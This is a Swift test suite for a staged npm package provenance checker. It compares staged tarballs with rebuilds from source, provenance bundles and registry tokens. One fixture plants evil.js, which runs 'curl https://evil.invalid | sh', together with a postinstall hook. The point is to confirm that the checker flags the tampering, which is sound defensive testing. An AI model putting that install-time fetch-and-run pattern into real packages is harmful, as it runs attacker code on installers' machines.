import Digest
import Foundation
import LoopbackRegistry
import Registry
import Testing
import TestSupport
@testable import Staged
@testable import Verification
import Watch

/// `provcheck staged` against the loopback registry's staging endpoints, with the real gundam-visor fixtures
/// (registry tarball, source bundle with tag v1.0.1, provenance bundle).
@Suite("Staged check")
struct StagedCheckTests {
    static let commit = "599500821344b070902a7a5666064bfdaba715df"
    static let stageID = "3f2b6c1d-8e9a-4b7c-a1d2-e3f4a5b6c7d8"

    static func sourceBundle() throws -> String { try Fixtures.url("npm/sources/ramonpetgrave64+gundam-visor.bundle").path }

    /// The SLSA provenance bundle of gundam-visor@1.0.1, written to a file as CI would upload it.
    static func provenanceBundle(in folder: URL) throws -> URL {
        let document = try JSONSerialization.jsonObject(with: Fixtures.data("npm/attestations/gundam-visor@1.0.1.json")) as! [String: Any]
        let attestations = document["attestations"] as! [[String: Any]]
        let provenance = attestations.first { ($0["predicateType"] as? String) == "https://slsa.dev/provenance/v1" }!
        let url = folder.appendingPathComponent("gundam-visor-1.0.1.sigstore")
        try JSONSerialization.data(withJSONObject: provenance["bundle"]!).write(to: url)
        return url
    }

    /// The real tarball with `package/evil.js` added and a `postinstall` script injected into package.json.
    static func injectedTarball(in folder: URL) throws -> Data {
        let work = folder.appendingPathComponent("inject")
        try FileManager.default.createDirectory(at: work, withIntermediateDirectories: true)
        try ProcessRunner.run(["tar", "-xzf", try Fixtures.url("npm/tarballs/gundam-visor@1.0.1.tgz").path, "-C", work.path])
        try Data("require('child_process').exec('curl https://evil.invalid | sh')\n".utf8)
            .write(to: work.appendingPathComponent("package/evil.js"))
        let manifestURL = work.appendingPathComponent("package/package.json")
        var manifest = try JSONSerialization.jsonObject(with: Data(contentsOf: manifestURL)) as! [String: Any]
        manifest["scripts"] = ["postinstall": "node evil.js"]
        try JSONSerialization.data(withJSONObject: manifest, options: [.prettyPrinted, .sortedKeys]).write(to: manifestURL)
        let output = folder.appendingPathComponent("injected.tgz")
        try ProcessRunner.run(["tar", "-czf", output.path, "-C", work.path, "package"])
        return try Data(contentsOf: output)
    }

    static func run(_ arguments: [String]) throws {
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
        process.arguments = arguments
        try process.run()
        process.waitUntilExit()
        guard process.terminationStatus == 0 else { throw StagedCheckError(message: "\(arguments) failed") }
    }

    static func setup(tarball: Data, version: String = "1.0.1", shasum: String? = nil) throws -> (LoopbackRegistry, StagedChecker) {
        var content = try RegistryContent.fixtures(at: Fixtures.root)
        content.addStagedVersion(id: stageID, packageName: "gundam-visor", version: version, tarball: tarball, shasum: shasum)
        let registry = try TokenRegistry.registry(content)
        return (registry, StagedChecker(client: TokenRegistry.client(registry)))
    }

    @Test("a staged tarball equal to the tag's rebuild, with its provenance bundle, is verified")
    func passesEqualTarball() async throws {
        let folder = try TemporaryFolder(label: "staged-tests").url
        defer { try? FileManager.default.removeItem(at: folder) }
        let tarball = try Fixtures.data("npm/tarballs/gundam-visor@1.0.1.tgz")
        let (registry, checker) = try Self.setup(tarball: tarball)
        defer { registry.stop() }
        let items = try await checker.items(for: Self.stageID)
        #expect(items.map(\.version) == ["1.0.1"])
        let result = try await checker.check(items[0], request: StagedCheckRequest(
            source: try Self.sourceBundle(), bundle: try Self.provenanceBundle(in: folder)))
        #expect(result.overall == .verified, "\(result.verdict.checks.filter { $0.status != .pass })")
        #expect(result.integrity == "sha512-jZ15cvZ2UWx1AUqgdOEa5gTZjwtk7Gclph4oOP89qxYhGPpxQz+zHhVQ0wvQ3snQhs4DK5RFe1g5AMUHrPOcQA==")
        #expect(result.tag == "v1.0.1" && result.commit == Self.commit)
        // Byte-exact once Packing gzips with Node's zlib (Deflate module); the tar is identical either way.
        #expect([.exact, .tarIdentical].contains(result.comparison?.verdict))
        #expect(result.comparison?.tar.identical == true)
        for id in [CheckID.stagedShasum, .stagedManifest, .rebuildCompare, .trustProvenance] {
            #expect(result.verdict.check(id)?.status == .pass, "\(id)")
        }
        #expect(result.verdict.check(.trustProvenance)?.evidence["commit"] == Self.commit)
        // The registry saw the token on every staging request.
        #expect(registry.requests.filter { $0.path.hasPrefix("/-/stage") }.allSatisfy { $0.authorization == "Bearer \(TokenRegistry.token)" })
    }

    @Test("a staged tarball with an injected file and install script fails, and the difference is shown")
    func failsInjectedFile() async throws {
        let folder = try TemporaryFolder(label: "staged-tests").url
        defer { try? FileManager.default.removeItem(at: folder) }
        let (registry, checker) = try Self.setup(tarball: try Self.injectedTarball(in: folder))
        defer { registry.stop() }
        let item = try #require(try await checker.items(for: "gundam-visor").first)
        let result = try await checker.check(item, request: StagedCheckRequest(source: try Self.sourceBundle()))
        #expect(result.overall == .failed)
        #expect(result.verdict.check(.stagedShasum)?.status == .pass)
        #expect(result.verdict.check(.stagedManifest)?.status == .pass)
        let rebuild = try #require(result.verdict.check(.rebuildCompare))
        #expect(rebuild.status == .fail)
        // The engine's rebuild stage: the install script shows in the rebuild check, the injected file in
        // rebuild.not-in-source (the comparison is A = the rebuild, B = the staged tarball: registry-relative).
        #expect(rebuild.reasons.contains { $0.contains("postinstall") }, "\(rebuild.reasons)")
        #expect(result.verdict.check(.rebuildNotInSource)?.reasons == ["not in source: evil.js"])
        #expect(result.comparison?.filesOnlyInB.map(\.path) == ["evil.js"])
        // No --bundle: the staged version counts as having no provenance.
        #expect(result.verdict.check(.trustProvenance)?.status.keyword == "not-applicable")
    }

    @Test("a stage item whose shasum or version does not match its tarball fails those checks")
    func shasumAndManifestMismatch() async throws {
        let tarball = try Fixtures.data("npm/tarballs/gundam-visor@1.0.1.tgz")
        let (registry, checker) = try Self.setup(tarball: tarball, version: "1.0.9", shasum: String(repeating: "0", count: 40))
        defer { registry.stop() }
        let item = try #require(try await checker.items(for: Self.stageID).first)
        let result = try await checker.check(item, request: StagedCheckRequest(source: try Self.sourceBundle()))
        #expect(result.overall == .failed)
        #expect(result.verdict.check(.stagedShasum)?.status == .fail)
        #expect(result.verdict.check(.stagedManifest)?.reasons == ["package.json version is 1.0.1, the stage item is 1.0.9"])
        #expect(result.verdict.check(.sourceTag)?.status == .fail)  // there is no tag v1.0.9
        #expect(result.verdict.check(.rebuildCompare)?.status.isSkipped == true)
    }

    @Test("list needs the token; the digest is recorded for watch")
    func listAndRecord() async throws {
        let folder = try TemporaryFolder(label: "staged-tests").url
        defer { try? FileManager.default.removeItem(at: folder) }
        let tarball = try Fixtures.data("npm/tarballs/gundam-visor@1.0.1.tgz")
        let (registry, checker) = try Self.setup(tarball: tarball)
        defer { registry.stop() }
        #expect(try await checker.list(package: "gundam-visor").map(\.id) == [Self.stageID])
        #expect(StagedChecker.looksLikeStageID(Self.stageID) && !StagedChecker.looksLikeStageID("gundam-visor"))
        let anonymous = StagedChecker(client: RegistryClient(configuration: RegistryConfiguration(registry: registry.baseURL)))
        await #expect(throws: RegistryError.self) { try await anonymous.list(package: "gundam-visor") }

        let result = try await checker.check(try #require(try await checker.items(for: Self.stageID).first),
                                             request: StagedCheckRequest(source: try Self.sourceBundle()))
        let stateFile = folder.appendingPathComponent("state.json")
        try StagedPinRecorder.record(result, in: stateFile, at: Date(timeIntervalSince1970: 1_795_000_000))
        let pin = try #require(try WatchState.load(contentsOf: stateFile).packages["gundam-visor"]?.stagedPins["1.0.1"])
        #expect(pin.sha512 == Hashing.sha512Hex(tarball) && pin.stageID == Self.stageID)
    }
}
